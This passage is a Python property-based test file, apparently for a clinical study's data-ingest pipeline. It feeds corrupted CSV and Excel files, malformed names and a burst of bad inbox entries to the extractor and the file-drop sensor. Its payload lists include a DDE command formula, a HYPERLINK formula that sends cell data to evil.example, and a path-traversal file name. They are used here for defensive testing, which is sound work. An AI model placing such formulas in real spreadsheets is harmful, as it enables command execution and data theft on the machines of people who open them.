"""Bad input, tested with real files of each center's format (property-based).

The base files are a small synthetic study (30 patients) in the centers' real formats:
zcmu1 UTF-8-with-BOM CSV, hzfph GB18030 CSV, zju2 xlsx workbooks. Hypothesis breaks
them - one bad cell (formulas, huge numbers, junk text, unknown codes and units, future
dates, impossible dates), a duplicated row, a stop before its start, an event before
birth, or the whole file (random bytes, truncation, the wrong encoding, semicolons,
empty, swapped / misspelled / duplicated / missing headers, a renamed sheet) - and the
pure extraction must answer with either a clear ``UnreadableFileError`` naming the file
and the problem, or quarantine rows naming row, field and rule for the bad rows while
every untouched row keeps the outcome it had in the unbroken file. Nothing else may be
raised. ``load_center`` must keep a center's earlier data when a bad later file comes.

Then the file-drop sensor under a burst of bad files, and formula injection in what
coordinators open in Excel (reviewer list, rejected-rows CSV, delivery report HTML).
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import os
import shutil
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, event, given, note, settings
from hypothesis import strategies as st

from ibd_pipeline.config import data_paths, load_centers, load_crf, load_settings
from ibd_pipeline.ingest import UnreadableFileError, extract_file, write_delivery_report
from ibd_pipeline.ingest.rules import CROSS_FIELD_RULES, RULES
from ibd_pipeline.intake import drain_inbox, read_manifest
from ibd_pipeline.loading import load_center
from tests.support.intake import NAME_CHECK

KEY = b"bad-input-test-key-0123456789abcdef"
DELIVERY = "b" * 64
CENTERS = load_centers()
CRF = load_crf()
SETTINGS = load_settings()
CSV_TABLES = ("patients", "medications", "assessments", "labs")
FORMULAS = ["=cmd|' /C calc'!A0", "=1+1", "@SUM(1)", "+1+1", "-2+3", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "\t=1+1", "\r=1+1", "=1+1\n"]
HUGE = ["1e308", "1e309", "-1e309", "9" * 40, "9" * 400, "-" + "9" * 30, "NaN", "inf", "-inf", "0x10", "1_000", "１２３",
        "1,5", "-0", "1e-400", "4.4.4", "9223372036854775808"]
JUNK_CODES = ["XYZ", "furlongs", "mg/dL ", "克罗恩", "m", "TRUE", "yes", "不详?", "NULL", "None", "#N/A", "\u200b"]
DATES_ISO = ["2099-12-31", "2100-01-01", "1900-01-01", "1899-12-31", "2024-02-30", "0000-00-00", "31/12/2024",
             "2024-13-01", "9999-99-99", "20240101", "yesterday"]

PROPERTY = settings(
    max_examples=25, deadline=None, database=None, print_blob=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)


# =============================================================================== files
@dataclass
class Formula:
    """A real formula cell of a workbook (not text that starts with '=')."""

    text: str


@dataclass
class Doc:
    """A delivery as cells: a CSV (one table) or a workbook (sheet -> rows); row 0 is the
    header. ``name`` is the delivered file name."""

    center: str
    name: str
    sheets: dict[str, list[list]]  # CSV: {table: rows}
    encoding: str | None = None
    delimiter: str = ","
    raw: bytes | None = None  # file-level corruption: written as is
    notes: list[str] = field(default_factory=list)

    def __repr__(self) -> str:
        return f"Doc({self.center}, {self.name}, raw={None if self.raw is None else len(self.raw)}, notes={self.notes})"

    def _repr_pretty_(self, p, cycle) -> None:  # what hypothesis prints
        p.text(repr(self))

    @property
    def xlsx(self) -> bool:
        return CENTERS[self.center].format == "xlsx"

    def copy(self) -> "Doc":
        return Doc(self.center, self.name, {k: [list(r) for r in v] for k, v in self.sheets.items()}, self.encoding,
                   self.delimiter, self.raw, list(self.notes))

    def table_of(self, sheet: str) -> str:
        return CENTERS[self.center].sheets[sheet] if self.xlsx else sheet

    def write(self, folder: Path) -> Path:
        path = Path(folder) / self.name
        if self.raw is not None:
            path.write_bytes(self.raw)
        elif self.xlsx:
            write_workbook(path, self.sheets)
        else:
            (rows,) = self.sheets.values()
            buf = io.StringIO()
            csv.writer(buf, lineterminator="\r\n", delimiter=self.delimiter).writerows(rows)
            path.write_bytes(buf.getvalue().encode(self.encoding or CENTERS[self.center].encoding, errors="replace"))
        return path

    def data_rows(self) -> dict[tuple[str, str | None], set[int]]:
        """(table, sheet) -> row numbers of the non-blank data rows as the coordinator sees them."""
        out = {}
        for s, rows in self.sheets.items():
            nums = {i + 1 for i, r in enumerate(rows) if i > 0 and any(_filled(v) for v in r)}
            out[(self.table_of(s), s if self.xlsx else None)] = nums
        return out


def _filled(v) -> bool:
    if v is None:
        return False
    if isinstance(v, str):
        return v.strip() != ""
    return True


def write_workbook(path: Path, sheets: dict[str, list[list]]) -> None:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path), {"strings_to_numbers": False, "strings_to_formulas": False, "strings_to_urls": False,
                                          "nan_inf_to_errors": True})
    datefmt = wb.add_format({"num_format": "yyyy-mm-dd"})
    for name, rows in sheets.items():
        ws = wb.add_worksheet(name)
        for i, row in enumerate(rows):
            for j, v in enumerate(row):
                if isinstance(v, Formula):
                    ws.write_formula(i, j, v.text)
                elif isinstance(v, (dt.datetime, dt.date)):
                    ws.write_datetime(i, j, v if isinstance(v, dt.datetime) else dt.datetime(v.year, v.month, v.day), datefmt)
                elif isinstance(v, bool):
                    ws.write_boolean(i, j, v)
                elif isinstance(v, (int, float)):
                    ws.write_number(i, j, v)
                elif v is None or v == "":
                    continue
                else:
                    ws.write_string(i, j, str(v))
    wb.close()


def read_doc(center: str, path: Path) -> Doc:
    p = CENTERS[center]
    if p.format == "xlsx":
        import python_calamine as pc

        wb = pc.CalamineWorkbook.from_path(str(path))
        sheets = {n: [list(r) for r in wb.get_sheet_by_name(n).to_python()] for n in wb.sheet_names}
        return Doc(center, path.name, sheets)
    text = path.read_bytes().decode(p.encoding)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    table = path.name.split("_", 1)[1].rsplit("_", 1)[0]
    return Doc(center, path.name, {table: rows}, p.encoding)


def date_cell(center: str, d: dt.date):
    """A date as the center writes it."""
    p = CENTERS[center]
    if p.format == "xlsx":
        return d
    fmt = p.date_formats[0]
    return f"{d.year:04d}" + fmt[2:].replace("%m", f"{d.month:02d}").replace("%d", f"{d.day:02d}")


# =============================================================================== outcomes
def extract(center: str, path: Path, name: str | None = None):
    return extract_file(path, CENTERS[center], key=KEY, delivery_id=DELIVERY, file_name=name or path.name, crf=CRF)


def _v(x):
    if x is None or x is pd.NA or x is pd.NaT:
        return None
    if isinstance(x, float) and x != x:
        return None
    return x


def outcomes(extracts) -> dict:
    """(table, sheet, row) -> ('valid', values) or ('q', {(field, rule)})."""
    out = {}
    for ex in extracts:
        cols = [c for c in ex.valid.columns if c not in ("delivery_id", "source_file")]
        for rec in ex.valid[cols].itertuples(index=False):
            d = dict(zip(cols, rec))
            out[(ex.table, ex.sheet, int(d["source_row"]))] = ("valid", tuple((k, _v(v)) for k, v in d.items()))
        for (r,), g in ex.quarantine.groupby(["row_number"]):
            out[(ex.table, ex.sheet, int(r))] = ("q", frozenset(zip(g["field"], g["rule"])))
    return out


def assert_well_formed(doc: Doc, extracts, check_rows: bool = True) -> None:
    """Every quarantine row names file, row, field, rule and says why; a row is valid or
    quarantined, never both, never silently lost."""
    rows_of = doc.data_rows() if doc.raw is None else {}
    for ex in extracts:
        assert ex.file_name == doc.name
        q = ex.quarantine
        valid_rows = set(ex.valid["source_row"].astype(int))
        assert len(valid_rows) == len(ex.valid), "a source row staged twice"
        q_rows = set(q["row_number"].astype(int))
        assert not (valid_rows & q_rows), f"rows both valid and quarantined: {sorted(valid_rows & q_rows)[:5]}"
        assert ex.rows_in == len(valid_rows) + len(q_rows)
        for r in q.itertuples(index=False):
            assert r.rule in RULES, r
            assert isinstance(r.field, str) and r.field, r
            assert isinstance(r.message, str) and r.message.strip(), r
            assert r.file_name == doc.name and r.table_name == ex.table and r.row_number >= 2, r
            assert (r.sheet or None) == (ex.sheet or None)
        if check_rows and (ex.table, ex.sheet) in rows_of:
            assert valid_rows | q_rows == rows_of[(ex.table, ex.sheet)], "rows lost or invented"


def assert_clear_error(exc: UnreadableFileError, doc: Doc) -> None:
    assert exc.file_name == doc.name
    assert isinstance(exc.problem, str) and len(exc.problem.strip()) > 10
    assert doc.name in str(exc)


def run_extraction(doc: Doc, folder: Path):
    """(extracts, None) or (None, UnreadableFileError); any other exception fails the test."""
    path = doc.write(folder)
    try:
        ex = extract(doc.center, path, doc.name)
    except UnreadableFileError as e:
        assert_clear_error(e, doc)
        return None, e
    assert_well_formed(doc, ex)
    return ex, None


# =============================================================================== fixtures
@pytest.fixture(scope="module")
def study(small_deliveries):
    return small_deliveries  # 30 patients: every table has rows (read-only)


@dataclass
class Base:
    doc: Doc
    outcome: dict
    extracts: list
    good: bytes  # the unbroken file (a workbook's bytes change with every write)

    def __repr__(self) -> str:
        return f"Base({self.doc.name})"

    def _repr_pretty_(self, p, cycle) -> None:
        p.text(repr(self))


@pytest.fixture(scope="module")
def bases(study, tmp_path_factory) -> dict[str, list[Base]]:
    """Per center: the unbroken documents (re-written by the test's own writer) and the
    outcome of every row."""
    folder = tmp_path_factory.mktemp("bases")
    out = {}
    for center, p in CENTERS.items():
        if p.format == "xlsx":
            names = ["A_20250401.xlsx"]
        else:
            names = [f"A_{t}_20250401.csv" for t in CSV_TABLES]
        out[center] = []
        for n in names:
            doc = read_doc(center, study / "inbox" / center / n)
            ex, err = run_extraction(doc, folder)
            assert err is None, err
            out[center].append(Base(doc, outcomes(ex), ex, (folder / doc.name).read_bytes()))
    return out


def _center_param():
    return pytest.mark.parametrize("center", list(CENTERS))


# =============================================================================== row-level
def bad_values(center: str):
    xlsx = CENTERS[center].format == "xlsx"
    texts = st.sampled_from(FORMULAS + HUGE + JUNK_CODES + DATES_ISO)
    free = st.text(st.characters(blacklist_categories=("Cs",)), max_size=25)
    strategies = [texts, texts, free]
    if xlsx:
        strategies += [
            st.sampled_from(FORMULAS[:3]).map(Formula),
            st.floats(allow_nan=False, allow_infinity=False) | st.sampled_from([1e308, -1e308, 2.0**63, 1e-300]),
            st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(9999, 12, 31)),
            st.booleans(),
        ]
    else:
        strategies.append(st.dates(min_value=dt.date(1, 1, 1)).map(lambda d: date_cell(center, d)))
    return st.one_of(*strategies)


@st.composite
def row_mutation(draw, center: str, bases_of: list[Base]):
    """A broken copy of one base document: (doc, mutated (table, sheet, row), field, kind, value)."""
    base = draw(st.sampled_from(bases_of))
    doc = base.doc.copy()
    sheet = draw(st.sampled_from([s for s, rows in doc.sheets.items() if len(rows) > 1]))
    rows = doc.sheets[sheet]
    table = doc.table_of(sheet)
    header = [str(h) for h in rows[0]]
    i = draw(st.integers(1, len(rows) - 1))
    kind = draw(st.sampled_from(["cell", "cell", "cell", "duplicate", "dates"]))
    sheet_key = sheet if doc.xlsx else None
    profile = CENTERS[center]
    fields = {profile.header_for(table, f): f for f in CRF.table(table).fields}
    if kind == "duplicate":
        rows.append(list(rows[i]))
        return doc, base, (table, sheet_key, len(rows)), None, kind, None
    if kind == "dates":
        # a stop before its start, an event before birth, or a date far in the future
        state = base.outcome.get((table, sheet_key, i + 1))
        assume(state is not None and state[0] == "valid")
        # only the fields this center delivers (a CRF field it does not collect has no column)
        values = {f: v for f, v in dict(state[1]).items() if profile.header_for(table, f) in header}
        pairs = [(stop, start) for stop, start in (("upa_stop_date", "upa_start_date"), ("stop_date", "start_date"))
                 if stop in values and values.get(start) is not None]
        pairs += [(d, "birth_date") for d in ("diagnosis_date", "upa_start_date") if d in values and values.get("birth_date") is not None]
        pairs += [(d, None) for d, s in CRF.table(table).fields.items() if s.type == "date" and d in values]
        assume(pairs)
        target, anchor = draw(st.sampled_from(pairs))
        if anchor is None:
            new, expect = dt.date(2099, 12, 31), None  # no rule forbids a future date: any clean outcome
        else:
            new = (pd.Timestamp(values[anchor]) - pd.Timedelta(days=draw(st.integers(1, 400)))).date()
            expect = "event_after_birth" if anchor == "birth_date" else "stop_after_start"
            assume(new >= dt.date(1900, 3, 1) or not doc.xlsx)
        col = header.index(profile.header_for(table, target))
        rows[i][col] = date_cell(center, new)
        return doc, base, (table, sheet_key, i + 1), target, kind, expect
    j = draw(st.integers(0, len(header) - 1))
    value = draw(bad_values(center))
    while len(rows[i]) <= j:
        rows[i].append("" if not doc.xlsx else None)
    rows[i][j] = value
    return doc, base, (table, sheet_key, i + 1), fields.get(header[j]), kind, value


@_center_param()
@PROPERTY
@given(data=st.data())
def test_bad_rows_are_quarantined_with_row_field_and_rule_and_the_other_rows_survive(center, bases, tmp_path, data):
    m = data.draw(row_mutation(center, bases[center]))
    event(m[4])
    doc, base, where, fname, kind, extra = m
    note(f"{kind} at {where} field={fname!r} value/expect={extra!r}")
    with tempfile.TemporaryDirectory(dir=tmp_path) as d:
        ex, err = run_extraction(doc, Path(d))
    # one bad cell or row never makes the whole file unreadable, except bytes no text file has
    if err is not None:
        assert kind == "cell" and isinstance(extra, str) and "\x00" in extra and not doc.xlsx, err.problem
        return
    got = outcomes(ex)
    for k, before in base.outcome.items():
        if k == where:
            continue
        after = got.get(k)
        if before[0] == "q" and any(rule == "unique_key" for _, rule in before[1]):
            continue  # the first occurrence of its key may have been the mutated row
        assert after == before, f"row {k} changed: {before} -> {after}"
    state = got.get(where)
    assert state is not None, f"mutated row {where} lost"
    if kind == "duplicate":  # the copy of a row comes after it: never staged twice
        assert state[0] == "q", state
    elif kind == "dates" and extra is not None:
        assert state[0] == "q" and extra in {rule for _, rule in state[1]}, state
    elif state[0] == "q" and base.outcome.get(where, ("valid",))[0] == "valid" and fname is not None:
        named = {f for fld, _ in state[1] for f in fld.split("+")}
        rules = {rule for _, rule in state[1]}
        assert fname in named or rules & (set(CROSS_FIELD_RULES) | {"unique_key", "unit"}), (fname, state)
    if state[0] == "valid" and fname == "abstractor_id" and isinstance(extra, str):
        assert dict(state[1])[fname] == extra.strip()  # text stays text: a formula is never evaluated



def test_a_formula_is_stored_as_the_literal_text_in_every_format(bases, tmp_path):
    """Formula text in a free-text field is kept verbatim (never evaluated, never dropped);
    a real formula cell of a workbook is read as its cached value, not executed."""
    for center, bs in bases.items():
        base = next(b for b in bs if "patients" in {b.doc.table_of(s) for s in b.doc.sheets})
        doc = base.doc.copy()
        sheet = next(s for s in doc.sheets if doc.table_of(s) == "patients")
        rows = doc.sheets[sheet]
        col = [str(h) for h in rows[0]].index(CENTERS[center].header_for("patients", "abstractor_id"))
        valid_rows = [r for (t, s, r), o in base.outcome.items() if t == "patients" and o[0] == "valid"][:3]
        for r, f in zip(valid_rows, FORMULAS[:3]):
            rows[r - 1][col] = f
        ex, err = run_extraction(doc, tmp_path)
        assert err is None
        got = outcomes(ex)
        key = (lambda r: ("patients", sheet if doc.xlsx else None, r))
        assert [dict(got[key(r)][1])["abstractor_id"] for r in valid_rows] == FORMULAS[:3], center
    # workbook formula cells
    base = bases["zju2"][0]
    doc = base.doc.copy()
    rows = doc.sheets["患者"]
    col = [str(h) for h in rows[0]].index(CENTERS["zju2"].header_for("patients", "abstractor_id"))
    rows[1][col] = Formula("=cmd|' /C calc'!A0")
    rows[2][col] = Formula("=1+1")
    ex, err = run_extraction(doc, tmp_path)
    assert err is None


# =============================================================================== file-level
def _misspell(h: str) -> str:
    return h[:-1] + ("x" if not h.endswith("x") else "y") if h else "x"


@st.composite
def file_corruption(draw, center: str, bases_of: list[Base]):
    base = draw(st.sampled_from(bases_of))
    doc = base.doc.copy()
    good = base.good
    kind = draw(st.sampled_from(["random", "truncate", "encoding", "empty", "semicolon", "swap", "misspell", "dupe",
                                 "drop", "unknown", "sheet", "formula_header"]))
    sheet = draw(st.sampled_from(list(doc.sheets)))
    table = doc.table_of(sheet)
    rows = doc.sheets[sheet]
    header = rows[0]
    info = {"kind": kind, "table": table}
    if kind == "random":
        prefix = draw(st.sampled_from([b"", b"PK\x03\x04", b"\xef\xbb\xbf", "住院号,".encode("gb18030")]))
        doc.raw = prefix + draw(st.binary(max_size=3000))
    elif kind == "truncate":
        cut = draw(st.integers(0, len(good) - 1))
        doc.raw = good[:cut]
        info["cut"] = cut
        if not doc.xlsx:
            # a header-only file is a known crash (see test_a_header_only_csv...): not drawn here
            text = good[:cut].decode(CENTERS[center].encoding, errors="ignore")
            assume(sum(1 for r in csv.reader(io.StringIO(text, newline="")) if any(c.strip() for c in r)) >= 2)
    elif kind == "encoding":
        if doc.xlsx:  # a CSV export given the workbook's name
            doc.raw = "病案号,录入者\n1,a\n".encode(draw(st.sampled_from(["gb18030", "utf-8", "utf-16"])))
        else:
            enc = draw(st.sampled_from(["utf-16", "utf-16-le", "gb18030", "utf-8", "big5", "shift_jis", "latin-1", "cp1252"]))
            assume(enc.replace("-", "") != CENTERS[center].encoding.replace("-", "").replace("sig", ""))
            doc.encoding = enc
            info["encoding"] = enc
    elif kind == "empty":
        doc.raw = draw(st.sampled_from([b"", b"\xef\xbb\xbf", b"\r\n\r\n", b" ", b"\x00"]))
    elif kind == "semicolon":
        if doc.xlsx:
            doc.raw = good.replace(b"PK", b"PX", 1)
        else:
            doc.delimiter = ";"
    elif kind in ("swap", "misspell", "dupe", "drop", "formula_header"):
        j = draw(st.integers(0, len(header) - 1))
        if kind == "swap":
            k = draw(st.integers(0, len(header) - 1))
            header[j], header[k] = header[k], header[j]
        elif kind == "misspell":
            info["header"] = header[j]
            header[j] = _misspell(str(header[j]))
        elif kind == "dupe":
            k = draw(st.integers(0, len(header) - 1).filter(lambda k: k != j))
            info["header"] = header[j]
            header[k] = header[j]
        elif kind == "drop":
            info["header"] = header[j]
            for r in rows:
                if len(r) > j:
                    del r[j]
        else:
            info["header"] = header[j]
            header[j] = draw(st.sampled_from(FORMULAS))
    elif kind == "unknown":
        header.append("=1+1" if draw(st.booleans()) else "备注")
        for r in rows[1:]:
            r.append(draw(st.sampled_from(FORMULAS + ["x"])))
    elif kind == "sheet":
        if doc.xlsx:  # a renamed sheet
            new = draw(st.sampled_from(["Sheet1", "检验_x", "=1+1", "Data", "患者1"]))
            doc.sheets = {(new if s == sheet else s): v for s, v in doc.sheets.items()}
            info["sheet"] = (sheet, new)
        else:  # blank lines before the header
            doc.raw = (b"\xef\xbb\xbf" if good.startswith(b"\xef\xbb\xbf") else b"") + b"\r\n\r\n,,\r\n" + good.removeprefix(b"\xef\xbb\xbf")
    return doc, base, info


def _required(center: str, table: str, header_text: str) -> str | None:
    """The canonical field of a header if the field is required."""
    p = CENTERS[center]
    for f, s in CRF.table(table).fields.items():
        if p.header_for(table, f) == header_text and s.required:
            return f
    return None


@_center_param()
@PROPERTY
@given(data=st.data())
def test_broken_files_give_a_clear_error_or_well_formed_rows(center, bases, tmp_path, data):
    m = data.draw(file_corruption(center, bases[center]))
    event(m[2]["kind"])
    doc, base, info = m
    note(repr(info))
    with tempfile.TemporaryDirectory(dir=tmp_path) as d:
        ex, err = run_extraction(doc, Path(d))
    kind = info["kind"]
    if kind in ("random", "empty"):
        assert err is not None, "random bytes were read as a delivery"
        if doc.raw == b"":
            assert "empty" in err.problem
    if kind == "truncate" and doc.xlsx:
        assert err is not None
    if kind == "dupe":
        assert err is not None and "twice" in err.problem
    if kind in ("misspell", "drop", "formula_header") and info["header"]:
        req = _required(center, info["table"], str(info["header"]))
        if req is not None:
            assert err is not None and req in err.problem, (req, err)
    if kind == "semicolon" and not doc.xlsx:
        assert err is not None and "comma" in err.problem
    if kind == "sheet" and doc.xlsx:
        assert err is not None and repr(info["sheet"][1]) in err.problem
    if err is not None:
        return
    got = outcomes(ex)
    if kind == "encoding":
        assert got == base.outcome  # a readable file in another encoding reads the same
    if kind == "sheet":  # the same rows, three lines further down
        assert sorted(v[0] for v in got.values()) == sorted(v[0] for v in base.outcome.values())
    if kind == "truncate":
        # every row before the cut reads as before; only the cut row may differ
        last = max((r for (_, _, r) in got), default=0)
        for k, before in base.outcome.items():
            if k[2] < last:
                assert got.get(k) == before, k



def _header_only_failures(tmp_path) -> list[str]:
    failures = []
    for center in ("zcmu1", "hzfph"):
        p = CENTERS[center]
        for table in CRF.data_tables:
            header = [p.header_for(table, f) for f in CRF.table(table).fields]
            doc = Doc(center, f"A_{table}_20250401.csv", {table: [header]}, p.encoding)
            try:
                ex, err = run_extraction(doc, tmp_path)
                assert err is None and [e.rows_in for e in ex] == [0]
            except Exception as e:  # noqa: BLE001
                failures.append(f"{center} {table}: {type(e).__name__}: {e}")
    return failures


def test_a_header_only_csv_is_an_empty_delivery_not_a_crash(tmp_path):
    """A table without rows (the center had no adverse events this round) is a valid,
    empty delivery - in both CSV centers' encodings, for every table."""
    assert _header_only_failures(tmp_path) == []


# =============================================================================== load_center
@dataclass
class Loaded:
    root: Path
    staging: dict
    tables: set


def _center_state(con, center: str) -> dict:
    out = {}
    for t in CRF.tables:
        df = con.execute(f"SELECT * EXCLUDE (delivery_id) FROM staging.{t} WHERE center = ? ORDER BY ALL", [center]).df()
        out[t] = df.astype(str).values.tolist()
    return out


@pytest.fixture(scope="module")
def loaded(study, tmp_path_factory) -> dict[str, Loaded]:
    """Per center: a data directory and warehouse holding its good round-A and B files."""
    out = {}
    for center, profile in CENTERS.items():
        root = tmp_path_factory.mktemp(f"loaded-{center}")
        paths = data_paths(root / "data").ensure([center])
        for f in (study / "inbox" / center).iterdir():
            shutil.copy(f, paths.inbox(center) / f.name)
        drain_inbox(paths, profile, settle_seconds=0, name_check=NAME_CHECK)
        con = duckdb.connect(str(root / "w.duckdb"))
        rep = load_center(con, paths, profile, CRF, KEY, SETTINGS)
        assert rep.errors == []
        staging = _center_state(con, center)
        con.close()
        out[center] = Loaded(root, staging, {t for t, rows in staging.items() if rows})
    return out


def _later_name(center: str, table: str) -> str:
    return CENTERS[center].file_pattern.format(round="A", table=table, yyyymmdd="20250402")


@_center_param()
@settings(PROPERTY, max_examples=8)
@given(data=st.data())
def test_a_bad_later_file_never_costs_the_center_its_earlier_data(center, bases, loaded, tmp_path, data):
    m = data.draw(file_corruption(center, bases[center]))
    event(m[2]["kind"])
    doc, base, info = m
    note(repr(info))
    table = base.doc.table_of(next(iter(base.doc.sheets)))
    doc.name = _later_name(center, table)
    with tempfile.TemporaryDirectory(dir=tmp_path) as d:
        root = Path(d) / "state"
        shutil.copytree(loaded[center].root, root)
        paths = data_paths(root / "data")
        src = doc.write(paths.inbox(center))
        t = time.time() - 60
        os.utime(src, (t, t))
        try:
            direct = extract(center, src, doc.name)
            problem = None
        except UnreadableFileError as e:
            direct, problem = None, e.problem
        (o,) = drain_inbox(paths, CENTERS[center], settle_seconds=0, name_check=NAME_CHECK)
        if o.status == "duplicate":
            return  # the same bytes as a loaded file: nothing new
        if o.status == "held":  # looks like an incomplete copy (issue 18): not archived, the coordinator told
            assert o.message and any(n.name.endswith(".held.txt") for n in paths.outbox(center).iterdir())
            assert (paths.inbox(center) / doc.name).exists()
            return
        assert o.status == "accepted"
        con = duckdb.connect(str(root / "w.duckdb"))
        try:
            rep = load_center(con, paths, CENTERS[center], CRF, KEY, SETTINGS)
            after = _center_state(con, center)
            recorded = con.execute(
                "SELECT status, message FROM analytics.deliveries WHERE center = ? AND file_name = ?", [center, doc.name]
            ).fetchall()
        finally:
            con.close()
        before = loaded[center].staging
        if problem is not None:
            assert after == before, "an unreadable later file changed the staged data"
            assert rep.errors == [f"{doc.name}: {problem}"]
            assert recorded == [("unreadable", problem)]
            page = (paths.outbox(center) / f"{doc.name}.report.html").read_text(encoding="utf-8")
            assert html.escape(problem, quote=True) in page
        else:
            # a table whose every delivered row was rejected keeps its earlier delivery
            all_rejected = {e.table for e in direct if e.rows_in > 0 and len(e.valid) == 0}
            replaced = {e.table for e in direct} - all_rejected
            for t in CRF.tables:
                # (a new patients table may change which rows of the others pass 'patient_known')
                if t not in replaced and "patients" not in replaced:
                    assert after[t] == before[t], f"{t} changed by a file that does not replace it"
            statuses = {s for s, _ in recorded}
            assert statuses <= {"current", "superseded", "all_rows_rejected", "held"}
            if "held" in statuses:  # a far smaller file waits for confirmation: nothing of it applied
                assert after == before
            else:
                assert ("all_rows_rejected" in statuses) == bool(all_rejected)



def test_a_later_file_whose_every_row_is_rejected_does_not_replace_the_good_data(study, loaded, tmp_path):
    center = "zcmu1"
    root = tmp_path / "state"
    shutil.copytree(loaded[center].root, root)
    paths = data_paths(root / "data")
    good = study / "inbox" / center / "A_labs_20250401.csv"
    doc = read_doc(center, good)
    rows = doc.sheets["labs"]
    col = rows[0].index("sample_date")
    for r in rows[1:]:
        r[col] = "2024/13/45"  # the wrong date format in every row: every row fails 'type'
    doc.name = _later_name(center, "labs")
    src = doc.write(paths.inbox(center))
    t = time.time() - 60
    os.utime(src, (t, t))
    drain_inbox(paths, CENTERS[center], settle_seconds=0, name_check=NAME_CHECK)
    con = duckdb.connect(str(root / "w.duckdb"))
    try:
        load_center(con, paths, CENTERS[center], CRF, KEY, SETTINGS)
        after = _center_state(con, center)
    finally:
        con.close()
    assert loaded[center].staging["labs"], "the earlier delivery had labs"
    assert after["labs"] == loaded[center].staging["labs"]


# =============================================================================== the sensor
def _age(path: Path, seconds: float = 120) -> None:
    t = time.time() - seconds
    os.utime(path, (t, t), follow_symlinks=False)


def _file_names():
    plain = st.text(st.characters(blacklist_characters="/\x00", blacklist_categories=("Cs",)), min_size=1, max_size=40)
    return st.one_of(
        plain,
        st.sampled_from(["~$A_20250401.xlsx", ".~lock.A_labs_20250401.csv#", "A_labs_20250401.csv.tmp", "A_labs_20250401.csv.part",
                         ".DS_Store", "Thumbs.db", "desktop.ini", "A_labs_20250401.csv~", "..A_labs_20250401.csv",
                         "a\\..\\..\\evil.csv", "A_labs_2025\x010401.csv", "A_labs_20250401.csv\n", " A_labs_20250401.csv",
                         "A_labs_20250401.CSV", "A_20250401.xlsx", "A_labs_20250401.csv", "B_patients_20250401.csv",
                         "ADJ_adjudications_20250401.csv", "A_20250431.xlsx", "=1+1.csv", "x" * 240]),
    ).filter(lambda n: n not in (".", "..") and len(n.encode("utf-8")) <= 250)


@st.composite
def burst(draw):
    files = draw(st.lists(st.tuples(st.sampled_from(list(CENTERS)), _file_names(), st.binary(max_size=300)), max_size=12,
                          unique_by=lambda x: (x[0], x[1])))
    extras = draw(st.sets(st.sampled_from(["bytes_name", "symlink_out", "dir", "fifo", "vanished"])))
    return files, extras


def _tick(sensor, root: Path, cursor):
    """One evaluation of the sensor as the daemon does it (``evaluate_tick``), for the data
    directory ``root``."""
    import dagster as dg

    from ibd_pipeline.defs.resources import StudyResource

    defs, sensor_def, instance = sensor
    with dg.build_sensor_context(cursor=cursor, resources={"study": StudyResource(data_dir=str(root))},
                                 instance=instance, definitions=defs) as ctx:
        data = sensor_def.evaluate_tick(ctx)
    return data, data.cursor


@pytest.fixture(scope="module")
def inbox_sensor(tmp_path_factory):
    import dagster as dg

    from ibd_pipeline.definitions import build_definitions

    defs = build_definitions(tmp_path_factory.mktemp("sensor-defs") / "data")
    instance = dg.DagsterInstance.ephemeral()
    yield defs, defs.resolve_sensor_def("inbox_sensor"), instance
    instance.dispose()


@settings(PROPERTY, max_examples=20)
@given(b=burst())
def test_a_burst_of_bad_files_never_makes_the_file_drop_sensor_raise(inbox_sensor, tmp_path, monkeypatch, b):
    import ibd_pipeline.intake as intake

    real_snapshot = intake.inbox_snapshot
    files, extras = b
    with tempfile.TemporaryDirectory(dir=tmp_path) as d:
        root = Path(d) / "data"
        paths = data_paths(root).ensure()
        outside = Path(d) / "outside.csv"
        outside.write_bytes(b"mrn\nkeep me\n")
        for center, name, content in files:
            p = paths.inbox(center) / name
            p.write_bytes(content)
            _age(p)
        if "bytes_name" in extras:
            raw = os.fsencode(str(paths.inbox("zcmu1"))) + b"/A_pat\xff\xfeients_20250401.csv"
            fd = os.open(raw, os.O_WRONLY | os.O_CREAT, 0o644)
            os.write(fd, b"x")
            os.close(fd)
            _age(Path(os.fsdecode(raw)))
        if "symlink_out" in extras:
            link = paths.inbox("hzfph") / "A_patients_20250401.csv"
            if not link.exists():
                link.symlink_to(outside)
                _age(link)
        if "dir" in extras and not (paths.inbox("zju2") / "A_20250401.xlsx").exists():
            (paths.inbox("zju2") / "A_20250401.xlsx").mkdir()
        if "fifo" in extras and not (paths.inbox("zcmu1") / "A_labs_20250402.csv").exists():
            os.mkfifo(paths.inbox("zcmu1") / "A_labs_20250402.csv")
        if "vanished" in extras:  # listed by the scan, deleted before it is taken
            monkeypatch.setattr(intake, "inbox_snapshot",
                                lambda inbox: {**real_snapshot(inbox), "A_surgeries_20250401.csv": [1, 0]})
        try:
            data, cursor = _tick(inbox_sensor, root, None)
            data2, cursor2 = _tick(inbox_sensor, root, cursor)
        finally:
            monkeypatch.setattr(intake, "inbox_snapshot", real_snapshot)
        assert outside.read_bytes() == b"mrn\nkeep me\n"
        requested = sorted(r.partition_key for r in (data.run_requests or []) + (data2.run_requests or []))
        for center in CENTERS:
            records = read_manifest(paths, center)
            lines = (paths.archive(center) / "manifest.jsonl").read_text(encoding="utf-8").split("\n")[:-1] if records else []
            assert [json.loads(line)["seq"] for line in lines] == [r.seq for r in records]  # every record whole, none lost
            accepted = [r for r in records if r.status == "accepted"]
            assert (center in requested) == bool(accepted), (center, requested, records)
            for r in accepted:
                assert (paths.archive(center) / r.archive_name).exists()
            for r in records:
                if r.status == "rejected":
                    assert r.message
            # what is left in the inbox: names never taken (lock files, hidden, ...) and non-files
            for entry in os.scandir(paths.inbox(center)):
                assert intake.is_ignored(entry.name) or not entry.is_file(follow_symlinks=False), entry.name
        json.loads(cursor2)


# =============================================================================== formula injection
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _dangerous(cell: str) -> bool:
    from ibd_pipeline.reconcile.values import is_plain_number

    return isinstance(cell, str) and cell.startswith(FORMULA_START) and not is_plain_number(cell)


def test_the_reviewer_list_neutralises_formulas_in_record_numbers(tmp_path):
